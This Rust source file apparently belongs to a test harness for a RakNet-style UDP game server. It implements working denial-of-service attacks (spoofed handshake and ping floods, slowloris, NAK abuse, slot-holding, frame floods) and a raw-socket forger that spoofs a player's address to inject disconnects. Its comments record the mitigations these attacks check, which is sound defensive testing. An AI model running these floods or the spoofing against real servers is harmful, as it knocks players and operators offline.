//! The attacks

use crate::*;

pub(crate) struct Ctx {
    pub(crate) server: SocketAddr,
    pub(crate) epoch: Instant,
    pub(crate) rate: f64,
    pub(crate) ping_rate: f64,
    pub(crate) conn_rate: f64,
    pub(crate) sources: usize,
    pub(crate) slow_connections: usize,
}

/// Spoofed OCR2 (no cookie: the attacker never sees Reply1) from every source in turn.
pub(crate) async fn ocr2_flood(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let pool = bind_pool(ctx.sources, source_ip).await?;
    cookieless_ocr2s(ctx, end, traffic, &pool).await;
    Ok(format!("{} sources, blind (no cookie)", pool.len()))
}

/// Cookie-less OCR2s spoofed from the players' own IP (127.0.0.1, the fresh clients' address),
/// from many ports: a NAT that many players share, whose address the attacker knows. With
/// cookies (the server's default, every protocol) they make no handshake record; a server
/// without cookies cannot tell them from its players, and they compete with those for that
/// IP's half-open handshakes.
pub(crate) async fn ocr2_players_ip(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let pool = bind_pool(PLAYERS_IP_PORTS, |_| Ipv4Addr::LOCALHOST).await?;
    cookieless_ocr2s(ctx, end, traffic, &pool).await;
    Ok(format!(
        "{} ports of 127.0.0.1 (the players' IP), no cookie",
        pool.len()
    ))
}

/// Until `end`, at the flood rate, an OCR2 without a cookie (a GUID of its own per socket)
/// from each socket of `pool` in turn; counts the replies until the drain grace is over.
pub(crate) async fn cookieless_ocr2s(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    pool: &[Rc<UdpSocket>],
) {
    spawn_drains(pool, traffic, end + DRAIN_GRACE);
    let mut rng = Rng(seed());
    let pkts: Vec<Vec<u8>> = (0..pool.len())
        .map(|_| {
            encode(&OpenConnectionRequest2 {
                cookie: None,
                client_challenge: None,
                server_address: ctx.server,
                mtu: 1492,
                client_guid: rng.next(),
            })
        })
        .collect();
    let max = (ctx.rate * 600.0) as u64;
    paced(ctx.rate, end, max, |k| {
        let i = (k % pool.len() as u64) as usize;
        try_send(&pool[i], ctx.server, &pkts[i], traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
}

/// OCR1 from every source in turn: padded to MTU 1492, or the bare 18 bytes.
pub(crate) async fn ocr1_flood(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    short: bool,
) -> Result<String, String> {
    let pool = bind_pool(ctx.sources, source_ip).await?;
    spawn_drains(&pool, traffic, end + DRAIN_GRACE);
    let pkt = encode(&OpenConnectionRequest1 {
        protocol: 11,
        mtu: if short { 0 } else { 1492 },
    });
    let len = pkt.len();
    let max = (ctx.rate * 600.0) as u64;
    paced(ctx.rate, end, max, |k| {
        let i = (k % pool.len() as u64) as usize;
        try_send(&pool[i], ctx.server, &pkt, traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
    Ok(format!("{} sources, {len} B OCR1", pool.len()))
}

/// Per source: OCR2, then 0x09 in datagram #0, then 0x13 in datagram #1, never reading
/// replies; then keep counting what the server reflects until the window ends.
pub(crate) async fn blind_handshake(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let pool = bind_pool(ctx.sources, source_ip).await?;
    spawn_drains(&pool, traffic, end + DRAIN_GRACE);
    let mut rng = Rng(seed());
    let server = ctx.server;
    let epoch = ctx.epoch;
    let per_source = |phase: u64, guid: u64| -> Vec<u8> {
        match phase {
            0 => encode(&OpenConnectionRequest2 {
                cookie: None,
                client_challenge: None,
                server_address: server,
                mtu: 1492,
                client_guid: guid,
            }),
            1 => {
                let mut f = Frame::new(
                    Reliability::Reliable,
                    Bytes::from(encode(&ConnectionRequest {
                        client_guid: guid,
                        time: now_ms(epoch),
                        use_security: false,
                        password: Bytes::new(),
                    })),
                );
                f.message_index = MessageIndex::new(0);
                RawConn::datagram_at(0, &[f])
            }
            _ => {
                let mut f = Frame::new(
                    Reliability::ReliableOrdered,
                    Bytes::from(encode(&NewIncomingConnection {
                        server_address: server,
                        internal_addresses: vec![addr::UNASSIGNED; 20],
                        ping_time: 0,
                        pong_time: now_ms(epoch),
                    })),
                );
                f.message_index = MessageIndex::new(1);
                RawConn::datagram_at(1, &[f])
            }
        }
    };
    let guids: Vec<u64> = (0..pool.len()).map(|_| rng.next()).collect();
    let total = pool.len() as u64 * 3;
    // Source i sends its three packets back to back: packets 3i, 3i+1, 3i+2.
    let sent = paced(ctx.rate, end, total, |k| {
        let i = (k / 3) as usize;
        let pkt = per_source(k % 3, guids[i]);
        try_send(&pool[i], server, &pkt, traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
    Ok(format!("{} handshakes, then listening", sent / 3))
}

/// Unconnected pings (25 B, the shortest accepted) from one source or from every source.
pub(crate) async fn ping_flood(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    many: bool,
) -> Result<String, String> {
    let pool = if many {
        bind_pool(ctx.sources, source_ip).await?
    } else {
        bind_pool(1, |i| Ipv4Addr::new(127, 2, 0, (i % 250 + 1) as u8)).await?
    };
    spawn_drains(&pool, traffic, end + DRAIN_GRACE);
    let epoch = ctx.epoch;
    let max = (ctx.ping_rate * 600.0) as u64;
    paced(ctx.ping_rate, end, max, |k| {
        let i = (k % pool.len() as u64) as usize;
        let pkt = encode(&UnconnectedPing {
            only_if_open: false,
            time: now_ms(epoch),
            client_guid: None,
        });
        try_send(&pool[i], ctx.server, &pkt, traffic);
    })
    .await;
    sleep_until((end + DRAIN_GRACE).into()).await;
    Ok(format!("{} source(s), 25 B pings", pool.len()))
}

/// Outcome of one slowloris connection.
#[derive(Default, Clone, Copy)]
pub(crate) struct SlowResult {
    pub(crate) connected: bool,
    /// When the server sent 0x15, relative to the attack's start.
    pub(crate) notified: Option<Duration>,
    /// At the end, a valid datagram with a connected ping was acknowledged or answered.
    pub(crate) alive_at_end: bool,
}

/// Connect, then one datagram with a valid header and a garbage body every 2 s; optionally
/// never acknowledge anything the server sends. At the end, probe whether the server still
/// holds the connection.
pub(crate) async fn slow_conn(
    ctx: Rc<Ctx>,
    i: usize,
    start: Instant,
    end: Instant,
    ack: bool,
    traffic: Rc<Traffic>,
) -> SlowResult {
    let mut r = SlowResult::default();
    let mut rng = Rng(seed() ^ ((i as u64 + 1) << 20));
    let Ok(mut c) = raw_connect(
        Ipv4Addr::new(127, 3, (i / 250) as u8, (i % 250 + 1) as u8),
        ctx.server,
        11,
        576,
        rng.next(),
        ctx.epoch,
        &traffic,
    )
    .await
    else {
        return r;
    };
    r.connected = true;
    let mut buf = vec![0u8; 2048];
    let mut next = Instant::now();
    while Instant::now() < end && !c.closed {
        if Instant::now() >= next {
            let mut d = encode(&DataHeader::new(DatagramSeq::new(c.next_seq)));
            c.next_seq += 1;
            for _ in 0..4 {
                d.extend_from_slice(&rng.next().to_be_bytes());
            }
            c.send(&d, &traffic).await;
            next += SLOW_INTERVAL;
        }
        c.pump(next.min(end), &traffic, &mut buf).await;
        if ack {
            if let Some(a) = c.take_ack() {
                c.send(&a, &traffic).await;
            }
        } else {
            c.to_ack.clear();
        }
    }
    if c.closed {
        r.notified = Some(start.elapsed());
        return r;
    }
    // Liveness: a valid datagram with a connected ping; alive if the server ACKs or pongs.
    let mut ping = vec![id::CONNECTED_PING];
    ping.extend_from_slice(&now_ms(ctx.epoch).to_be_bytes());
    let f = c.frame(Reliability::Unreliable, ping);
    let d = c.datagram(&[f]);
    let pongs = c.frame_ids[usize::from(id::CONNECTED_PONG)];
    c.send(&d, &traffic).await;
    let until = Instant::now() + Duration::from_secs(1);
    let sent_at = Instant::now();
    while Instant::now() < until && !r.alive_at_end && !c.closed {
        c.pump(until, &traffic, &mut buf).await;
        r.alive_at_end = c.frame_ids[usize::from(id::CONNECTED_PONG)] > pongs
            || c.last_ack.is_some_and(|t| t >= sent_at);
    }
    if c.closed {
        r.notified = Some(start.elapsed());
    }
    r
}

pub(crate) async fn slowloris(
    ctx: &Rc<Ctx>,
    end: Instant,
    traffic: &Rc<Traffic>,
    ack: bool,
) -> Result<String, String> {
    let start = Instant::now();
    let mut handles = Vec::new();
    for i in 0..ctx.slow_connections {
        handles.push(tokio::task::spawn_local(slow_conn(
            ctx.clone(),
            i,
            start,
            end,
            ack,
            traffic.clone(),
        )));
        // Spread the handshakes a little.
        if i % 20 == 19 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    let mut results = Vec::new();
    for h in handles {
        results.push(h.await.unwrap_or_default());
    }
    let connected = results.iter().filter(|r| r.connected).count();
    let mut notified: Vec<Duration> = results.iter().filter_map(|r| r.notified).collect();
    notified.sort_unstable();
    let alive = results.iter().filter(|r| r.alive_at_end).count();
    let dead = connected - notified.len() - alive;
    Ok(format!(
        "{connected}/{} connected ({}); after {:.0} s: {} closed by 0x15{}, {dead} dropped silently, {alive} still open",
        results.len(),
        if ack { "ACKing" } else { "never ACKing" },
        (end - start).as_secs_f64(),
        notified.len(),
        notified
            .first()
            .map_or(String::new(), |t| format!(" (first at {:.1} s)", t.as_secs_f64())),
    ))
}

/// Our own connection: have the server echo a few large messages, never acknowledge them,
/// and NAK the server's whole datagram range at `conn_rate`.
pub(crate) async fn nak_attack(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = own_connection(ctx, Ipv4Addr::new(127, 4, 0, 1), rng.next(), traffic).await?;
    for k in 0..NAK_BAIT_COUNT {
        let mut payload = vec![ECHO_ID];
        payload.extend_from_slice(&(k as u64).to_be_bytes());
        payload.resize(NAK_BAIT_SIZE, 0xab);
        let f = c.frame(Reliability::ReliableOrdered, payload);
        let d = c.datagram(&[f]);
        c.send(&d, traffic).await;
    }
    let mut buf = vec![0u8; 2048];
    // Let the echoes arrive (and ACK none of them: what the server holds stays in flight).
    let settle = Instant::now() + Duration::from_millis(300);
    while Instant::now() < settle {
        c.pump(settle, traffic, &mut buf).await;
    }
    c.to_ack.clear();
    let mut naks = 0u64;
    let start = Instant::now();
    while Instant::now() < end {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while naks < due {
            let (lo, hi) = c.server_seqs.unwrap_or((0, 0));
            let nak = encode(&Nak {
                ranges: vec![AckRange {
                    start: DatagramSeq::new(lo),
                    end: DatagramSeq::new(hi.max(lo)),
                }],
            });
            c.send(&nak, traffic).await;
            naks += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        c.to_ack.clear();
    }
    let drain_end = Instant::now() + DRAIN_GRACE;
    while Instant::now() < drain_end {
        c.pump(drain_end, traffic, &mut buf).await;
    }
    let (lo, hi) = c.server_seqs.unwrap_or((0, 0));
    Ok(format!(
        "{naks} NAKs of server datagrams #{lo}..#{hi}; {NAK_BAIT_COUNT} echoes of {NAK_BAIT_SIZE} B never ACKed came {} times{}",
        c.frame_ids[usize::from(ECHO_ID)],
        if c.closed { "; server closed it" } else { "" }
    ))
}

/// Our own connection: every datagram jumps [`FAR_AHEAD_GAP`] numbers ahead (carrying a
/// connected ping); then check the connection still echoes.
pub(crate) async fn far_ahead(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = own_connection(ctx, Ipv4Addr::new(127, 4, 0, 2), rng.next(), traffic).await?;
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut sent = 0u64;
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while sent < due {
            c.next_seq = (c.next_seq + FAR_AHEAD_GAP) & 0xff_ffff;
            let mut ping = vec![id::CONNECTED_PING];
            ping.extend_from_slice(&now_ms(ctx.epoch).to_be_bytes());
            let f = c.frame(Reliability::Unreliable, ping);
            let d = c.datagram(&[f]);
            c.next_seq &= 0xff_ffff;
            c.send(&d, traffic).await;
            sent += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let pongs = c.frame_ids[usize::from(id::CONNECTED_PONG)];
    // Does the connection still work? One echo, in the next datagram number.
    let mut payload = vec![ECHO_ID];
    payload.extend_from_slice(&u64::MAX.to_be_bytes());
    let f = c.frame(Reliability::ReliableOrdered, payload);
    let d = c.datagram(&[f]);
    c.send(&d, traffic).await;
    let before = c.frame_ids[usize::from(ECHO_ID)];
    let until = Instant::now() + Duration::from_secs(1);
    while Instant::now() < until && c.frame_ids[usize::from(ECHO_ID)] == before {
        c.pump(until, traffic, &mut buf).await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let alive = c.frame_ids[usize::from(ECHO_ID)] > before;
    Ok(format!(
        "{sent} datagrams +{FAR_AHEAD_GAP} apart, {pongs} pongs; {}",
        if c.closed {
            "server closed it"
        } else if alive {
            "connection still echoes"
        } else {
            "connection no longer echoes"
        }
    ))
}

/// Our own connection: send 0x09 again and again (each may be answered with a 0x10).
pub(crate) async fn repeat_09(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let mut rng = Rng(seed());
    let guid = rng.next();
    let mut c = own_connection(ctx, Ipv4Addr::new(127, 4, 0, 3), guid, traffic).await?;
    let base_10 = c.frame_ids[usize::from(id::CONNECTION_REQUEST_ACCEPTED)];
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut sent = 0u64;
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while sent < due {
            let req = encode(&ConnectionRequest {
                client_guid: c.guid,
                time: now_ms(ctx.epoch),
                use_security: false,
                password: Bytes::new(),
            });
            let f = c.frame(Reliability::Reliable, req);
            let d = c.datagram(&[f]);
            c.send(&d, traffic).await;
            sent += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let drain_end = Instant::now() + DRAIN_GRACE;
    while Instant::now() < drain_end {
        c.pump(drain_end, traffic, &mut buf).await;
    }
    let got = c.frame_ids[usize::from(id::CONNECTION_REQUEST_ACCEPTED)] - base_10;
    Ok(format!(
        "{sent} x 0x09 (protocol {}), {got} x 0x10 back{}",
        c.protocol,
        if c.closed { "; server closed it" } else { "" }
    ))
}

/// From one address, [`GAP_HOLD_CONNS`] connections each pile one-byte reliable-ordered
/// messages behind ordering index 0 of all 32 channels, which never comes: every message is
/// held for ordering, counted at 129 bytes. Before fair shares this took the whole receive
/// budget, and no player's split message got through.
pub(crate) async fn gap_hold(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let mut rng = Rng(seed());
    let ip = Ipv4Addr::new(127, 4, 0, 6);
    let mut conns = Vec::new();
    let mut refusals = 0u32;
    // The per-address connection rate lets 20 through at once, then 20 a second.
    while conns.len() < GAP_HOLD_CONNS && Instant::now() < end {
        match own_connection(ctx, ip, rng.next(), traffic).await {
            Ok(c) => conns.push((c, [1u32; 32])),
            Err(_) => {
                refusals += 1;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }
    if conns.is_empty() {
        return Err(format!("no connection from {ip} ({refusals} refused)"));
    }
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut sent = 0u64;
    let mut frames_sent = 0u64;
    while Instant::now() < end {
        let due = due(start, Instant::now(), ctx.rate / 4.0, 10_000_000);
        let n = conns.len();
        while sent < due {
            let (c, order) = &mut conns[sent as usize % n];
            if !c.closed {
                let frames: Vec<Frame> = (0..GAP_HOLD_FRAMES)
                    .map(|i| {
                        let channel = (sent as usize + i) % 32;
                        let mut f =
                            Frame::new(Reliability::ReliableOrdered, Bytes::from_static(&[0x86]));
                        f.message_index = MessageIndex::new(c.next_ri & 0xff_ffff);
                        c.next_ri += 1;
                        f.order_index = OrderIndex::new(order[channel] & 0xff_ffff);
                        f.order_channel = channel as u8;
                        order[channel] += 1;
                        f
                    })
                    .collect();
                let d = c.datagram(&frames);
                c.send(&d, traffic).await;
                frames_sent += GAP_HOLD_FRAMES as u64;
            }
            sent += 1;
        }
        // Answer the server's pings and data, as a live peer does.
        for (c, _) in &mut conns {
            c.pump(Instant::now(), traffic, &mut buf).await;
            if let Some(a) = c.take_ack() {
                c.send(&a, traffic).await;
            }
        }
        tokio::task::yield_now().await;
    }
    let now = Instant::now();
    let deaf = conns
        .iter()
        .filter(|(c, _)| c.last_ack.is_none_or(|t| now - t > Duration::from_secs(2)))
        .count();
    Ok(format!(
        "{} connections from {ip} ({refusals} refused at first), {frames_sent} one-byte \
         messages behind never-filled gaps; {deaf} no longer acknowledged at the end",
        conns.len()
    ))
}

/// From [`SLOT_HOLD_ADDRS`] addresses, handshakes that stop once the server answered their
/// 0x09 with 0x10 ("accepted"), never sending 0x13, started again and again: with a cookie
/// each such handshake reserved a connection slot for the handshake timeout, and 17
/// addresses held all 1,024 slots. Now reservations are capped and lapse 2 s after the 0x10.
pub(crate) async fn slot_hold(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let pool = bind_pool(SLOT_HOLD_ADDRS * SLOT_HOLD_PORTS, |i| {
        Ipv4Addr::new(127, 4, 2, 1 + (i / SLOT_HOLD_PORTS) as u8)
    })
    .await?;
    let counts = Rc::new(Cell::new((0u32, 0u32, 0u32)));
    // One task per address, each going round its ports: a handshake stopped at 0x10 from
    // each, again and again.
    let tasks: Vec<_> = pool
        .chunks(SLOT_HOLD_PORTS)
        .enumerate()
        .map(|(a, socks)| {
            let socks = socks.to_vec();
            let (counts, traffic) = (counts.clone(), traffic.clone());
            let (server, epoch) = (ctx.server, ctx.epoch);
            tokio::task::spawn_local(async move {
                let mut rng = Rng(seed() ^ a as u64);
                for sock in socks.iter().cycle() {
                    if Instant::now() >= end {
                        break;
                    }
                    let r =
                        raw_accept_on(sock.clone(), server, 11, 1492, rng.next(), epoch, &traffic);
                    let (mut ok, mut refused, mut failed) = counts.get();
                    match tokio::time::timeout_at(end.into(), r).await {
                        Ok(Ok(_)) => ok += 1,
                        Ok(Err(e)) if e.starts_with("refused") => refused += 1,
                        Ok(Err(_)) => failed += 1,
                        Err(_) => break,
                    }
                    counts.set((ok, refused, failed));
                }
            })
        })
        .collect();
    for t in tasks {
        let _ = t.await;
    }
    let (accepted, refused, failed) = counts.get();
    Ok(format!(
        "{} handshakes from {} ports of {SLOT_HOLD_ADDRS} addresses stopped at 0x10: \
         {accepted} accepted, {refused} refused, {failed} unanswered",
        accepted + refused + failed,
        pool.len()
    ))
}

/// One real connection sends datagrams full of 4-byte reliable-ordered messages: 365 handler
/// calls per datagram, which without a message rate took every handler's time. The server
/// closes it once it goes over `:max_messages_per_sec` (1,000 a second by default).
pub(crate) async fn frame_flood(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = own_connection(ctx, Ipv4Addr::new(127, 4, 0, 9), rng.next(), traffic).await?;
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let (mut sent, mut messages) = (0u64, 0u64);
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), ctx.conn_rate, 1_000_000);
        while sent < due {
            let frames: Vec<Frame> = (0..FRAME_FLOOD_FRAMES)
                .map(|_| c.frame(Reliability::ReliableOrdered, vec![ECHO_ID, 0, 0, 0]))
                .collect();
            let d = c.datagram(&frames);
            c.send(&d, traffic).await;
            sent += 1;
            messages += FRAME_FLOOD_FRAMES as u64;
        }
        c.pump(Instant::now() + Duration::from_millis(1), traffic, &mut buf)
            .await;
        if let Some(a) = c.take_ack() {
            c.send(&a, traffic).await;
        }
    }
    let echoed = c.frame_ids[usize::from(ECHO_ID)];
    Ok(format!(
        "{sent} datagrams of {FRAME_FLOOD_FRAMES} 4-byte messages ({messages}), {echoed} echoed; {}",
        if c.closed {
            "server closed it"
        } else {
            "still open"
        }
    ))
}

/// A connection that has the echo server queue a lot for it (1 KB messages, 200 a second,
/// echoed back), then reads nothing: it acknowledges only the newest datagram every 8 s,
/// enough for the idle and acknowledgement timers. It held its 64 MiB send budget for ever;
/// now, over its share of the socket's budget and acknowledging less than an eighth of its
/// backlog in a timeout, it is closed.
pub(crate) async fn slow_reader(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
) -> Result<String, String> {
    let mut rng = Rng(seed());
    let mut c = own_connection(ctx, Ipv4Addr::new(127, 4, 0, 10), rng.next(), traffic).await?;
    let mut buf = vec![0u8; 2048];
    let start = Instant::now();
    let mut last_ack = start;
    let mut sent = 0u64;
    while Instant::now() < end && !c.closed {
        let due = due(start, Instant::now(), 200.0, 1_000_000);
        while sent < due {
            let mut payload = vec![ECHO_ID];
            payload.resize(1_000, 0x55);
            let f = c.frame(Reliability::ReliableOrdered, payload);
            let d = c.datagram(&[f]);
            c.send(&d, traffic).await;
            sent += 1;
        }
        c.pump(Instant::now() + Duration::from_millis(5), traffic, &mut buf)
            .await;
        // Acknowledge nothing but the newest datagram, every 8 s.
        if Instant::now() >= last_ack + Duration::from_secs(8) {
            if let Some((_, hi)) = c.server_seqs {
                let ack = encode(&Ack {
                    timestamp: None,
                    arrival_rate: None,
                    ranges: vec![AckRange::single(DatagramSeq::new(hi))],
                });
                c.send(&ack, traffic).await;
            }
            last_ack = Instant::now();
        }
        c.to_ack.clear();
        // The server acknowledges what we send while the connection lives (200 a second):
        // a second without an acknowledgement is a closed connection.
        if c.last_ack
            .is_some_and(|t| t.elapsed() > Duration::from_secs(1))
        {
            break;
        }
    }
    let closed = c.closed
        || c.last_ack
            .is_some_and(|t| t.elapsed() > Duration::from_secs(1));
    Ok(format!(
        "{sent} x 1 KB sent to be echoed, newest datagram acknowledged every 8 s; {}",
        if closed {
            format!(
                "server closed it after {:.1} s",
                start.elapsed().as_secs_f64()
            )
        } else {
            "still open".into()
        }
    ))
}

/// A second client, from another address, presents the long-lived client's GUID again and
/// again: the server must answer 0x12 (already connected) and leave the player alone.
pub(crate) async fn guid_takeover(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    log: &SharedLog,
) -> Result<String, String> {
    let Some(guid) = with_log(log, |l| l.steady_guid) else {
        return Err("the long-lived client never connected".into());
    };
    let (mut taken, mut refused, mut other) = (0u32, 0u32, 0u32);
    let mut port_ip = 0u8;
    while Instant::now() < end {
        port_ip = port_ip.wrapping_add(1).max(1);
        let ip = Ipv4Addr::new(127, 4, 1, port_ip);
        match own_connection(ctx, ip, guid, traffic).await {
            Ok(_) => taken += 1,
            Err(e) if e.contains("0x12") => refused += 1,
            Err(_) => other += 1,
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Ok(format!(
        "player's GUID presented {} times from other addresses: {refused} told 0x12, \
         {other} other refusals, {taken} {}",
        taken + refused + other,
        if taken == 0 { "taken" } else { "TAKEN" }
    ))
}

/// Datagrams forged from the long-lived player's exact address and port by a forger who
/// knows none of its counters: an unreliable 0x15, or an unreliable echo request the server
/// would answer to the player, each in a blind pair of datagrams numbered S and S + 2^23 (one
/// of which is always "ahead" of the server's window); and an ACK and a NAK of every number
/// (which, if taken, would stop the server resending what the player lost: it drops one in
/// [`SPOOF_DROP_EVERY`] of the server's datagrams meanwhile).
pub(crate) async fn spoof(
    ctx: &Ctx,
    end: Instant,
    traffic: &Rc<Traffic>,
    log: &SharedLog,
) -> Result<String, String> {
    let Some(SocketAddr::V4(player)) = with_log(log, |l| l.steady_addr) else {
        return Err("the long-lived client never connected".into());
    };
    let SocketAddr::V4(server) = ctx.server else {
        return Err("IPv4 only".into());
    };
    let forger = raw::Forger::open().map_err(|e| {
        format!("no raw socket (forging a source address needs root or CAP_NET_RAW): {e}")
    })?;
    // The forger works: a ping forged from a socket of ours is answered to that socket.
    let witness = UdpSocket::bind("127.0.0.1:0")
        .await
        .map_err(|e| format!("bind: {e}"))?;
    let Ok(SocketAddr::V4(witness_addr)) = witness.local_addr() else {
        return Err("no local address".into());
    };
    let ping = encode(&UnconnectedPing {
        only_if_open: false,
        time: now_ms(ctx.epoch),
        client_guid: None,
    });
    forger
        .send(witness_addr, server, &ping)
        .map_err(|e| format!("forging a ping: {e}"))?;
    let mut buf = [0u8; 2048];
    match tokio::time::timeout(Duration::from_secs(1), witness.recv_from(&mut buf)).await {
        Ok(Ok((_, from))) if from == ctx.server && buf[0] == id::UNCONNECTED_PONG => {}
        _ => return Err("a forged ping got no pong: forged datagrams do not arrive".into()),
    }
    let (lost0, injected0) = with_log(log, |l| {
        l.steady_drop_every = SPOOF_DROP_EVERY;
        (l.steady_lost, l.injected_seen)
    });
    let mut rng = Rng(seed());
    let mut blind = 0u32;
    let mut counts = [0u64; 4];
    let every = AckRange {
        start: DatagramSeq::ZERO,
        end: DatagramSeq::MAX,
    };
    let mut inject = vec![ECHO_ID];
    inject.extend_from_slice(&INJECT_SEQ.to_be_bytes());
    paced(SPOOF_RATE, end, u64::MAX, |i| {
        let pkt = match i % 6 {
            0..=3 => {
                if i % 2 == 0 {
                    blind = rng.next() as u32 & 0xff_ffff;
                }
                let seq = blind.wrapping_add(if i % 2 == 0 { 0 } else { 1 << 23 }) & 0xff_ffff;
                let payload = if i % 6 < 2 {
                    vec![id::DISCONNECTION_NOTIFICATION]
                } else {
                    inject.clone()
                };
                counts[(i % 6 / 2) as usize] += 1;
                let f = Frame::new(Reliability::Unreliable, Bytes::from(payload));
                RawConn::datagram_at(seq, &[f])
            }
            4 => {
                counts[2] += 1;
                encode(&Ack {
                    timestamp: None,
                    arrival_rate: None,
                    ranges: vec![every],
                })
            }
            _ => {
                counts[3] += 1;
                encode(&Nak {
                    ranges: vec![every],
                })
            }
        };
        match forger.send(player, server, &pkt) {
            Ok(()) => traffic.sent(pkt.len()),
            Err(_) => traffic.send_errors.set(traffic.send_errors.get() + 1),
        }
    })
    .await;
    // Let the server's answers (if any) reach the player before counting.
    tokio::time::sleep(DRAIN_GRACE).await;
    let (lost, injected) = with_log(log, |l| {
        l.steady_drop_every = 0;
        (l.steady_lost - lost0, l.injected_seen - injected0)
    });
    Ok(format!(
        "forged from the player's {player} (losing 1 in {SPOOF_DROP_EVERY}): {} x 0x15 and \
         {} echo requests, unreliable, in blind pairs S/S+2^23; {} ACKs and {} NAKs of every \
         number. Player's connection lost {lost} times, {injected} injected echoes reached it",
        counts[0], counts[1], counts[2], counts[3]
    ))
}

/// Sending UDP datagrams with any source address (a raw IPv4 socket).
#[cfg(target_os = "linux")]
pub(crate) mod raw {
    use std::io;
    use std::net::SocketAddrV4;
    use std::os::fd::{AsRawFd, OwnedFd};

    use nix::sys::socket::{
        sendto, socket, AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn,
    };

    pub(super) struct Forger(OwnedFd);

    impl Forger {
        pub(super) fn open() -> io::Result<Self> {
            let fd = socket(
                AddressFamily::Inet,
                SockType::Raw,
                SockFlag::SOCK_NONBLOCK,
                SockProtocol::Raw,
            )?;
            Ok(Self(fd))
        }

        /// Send `payload` in a UDP datagram from `from` to `to`. With `IPPROTO_RAW` we write
        /// the IP header; the kernel fills in its checksum, and a UDP checksum of 0 means none.
        pub(super) fn send(
            &self,
            from: SocketAddrV4,
            to: SocketAddrV4,
            payload: &[u8],
        ) -> io::Result<()> {
            let udp_len =
                u16::try_from(8 + payload.len()).map_err(|_| io::ErrorKind::InvalidInput)?;
            let total = udp_len + 20;
            let mut pkt = Vec::with_capacity(usize::from(total));
            pkt.extend_from_slice(&[0x45, 0]);
            pkt.extend_from_slice(&total.to_be_bytes());
            // Identification 0 (the kernel picks one), don't fragment, TTL 64, UDP.
            pkt.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
            pkt.extend_from_slice(&from.ip().octets());
            pkt.extend_from_slice(&to.ip().octets());
            pkt.extend_from_slice(&from.port().to_be_bytes());
            pkt.extend_from_slice(&to.port().to_be_bytes());
            pkt.extend_from_slice(&udp_len.to_be_bytes());
            pkt.extend_from_slice(&[0, 0]);
            pkt.extend_from_slice(payload);
            sendto(
                self.0.as_raw_fd(),
                &pkt,
                &SockaddrIn::from(to),
                MsgFlags::empty(),
            )?;
            Ok(())
        }
    }
}

#[cfg(not(target_os = "linux"))]
pub(crate) mod raw {
    use std::io;
    use std::net::SocketAddrV4;

    pub(super) struct Forger;

    impl Forger {
        pub(super) fn open() -> io::Result<Self> {
            Err(io::ErrorKind::Unsupported.into())
        }

        pub(super) fn send(&self, _: SocketAddrV4, _: SocketAddrV4, _: &[u8]) -> io::Result<()> {
            Err(io::ErrorKind::Unsupported.into())
        }
    }
}

/// A connection of our own from `ip` with `guid`, as the player's: protocol 11, MTU 1492.
async fn own_connection(
    ctx: &Ctx,
    ip: Ipv4Addr,
    guid: u64,
    traffic: &Traffic,
) -> Result<RawConn, String> {
    raw_connect(ip, ctx.server, 11, 1492, guid, ctx.epoch, traffic).await
}
